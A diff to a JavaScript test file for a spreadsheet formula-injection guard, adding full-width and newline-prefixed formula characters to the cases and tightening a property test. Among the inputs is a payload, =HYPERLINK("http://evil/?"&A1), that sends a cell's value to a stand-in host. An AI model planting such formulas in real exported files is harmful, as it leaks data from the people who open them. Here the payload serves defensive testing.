@@ -86,15 +86,25 @@ describe('a table as text', () => {
 });
 
 describe('a cell', () => {
-  it.each(['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '=HYPERLINK("http://evil/?"&A1)'])(
-    'that would be the formula %j is printed as text',
-    (cell) => expect(neutralizeFormula(cell)).toBe(`'${cell}`),
-  );
+  it.each([
+    '=1+1',
+    '+1',
+    '-1',
+    '@SUM(A1)',
+    '\t=1',
+    '\r=1',
+    '\n=1',
+    '＝1+1',
+    '＋1',
+    '－1',
+    '＠SUM(A1)',
+    '=HYPERLINK("http://evil/?"&A1)',
+  ])('that would be the formula %j is printed as text', (cell) => expect(neutralizeFormula(cell)).toBe(`'${cell}`));
 
   it('never begins like a formula, whatever it was', () => {
     fc.assert(
       fc.property(fc.string({ unit: 'binary' }), (cell) => {
-        expect(neutralizeFormula(cell)).not.toMatch(/^[=+\-@\t\r]/);
+        expect(neutralizeFormula(cell)).not.toMatch(/^[=+\-@＝＋－＠\t\r\n]/);
         expect(restoreFormula(neutralizeFormula(cell))).toBe(cell);
       }),
     );
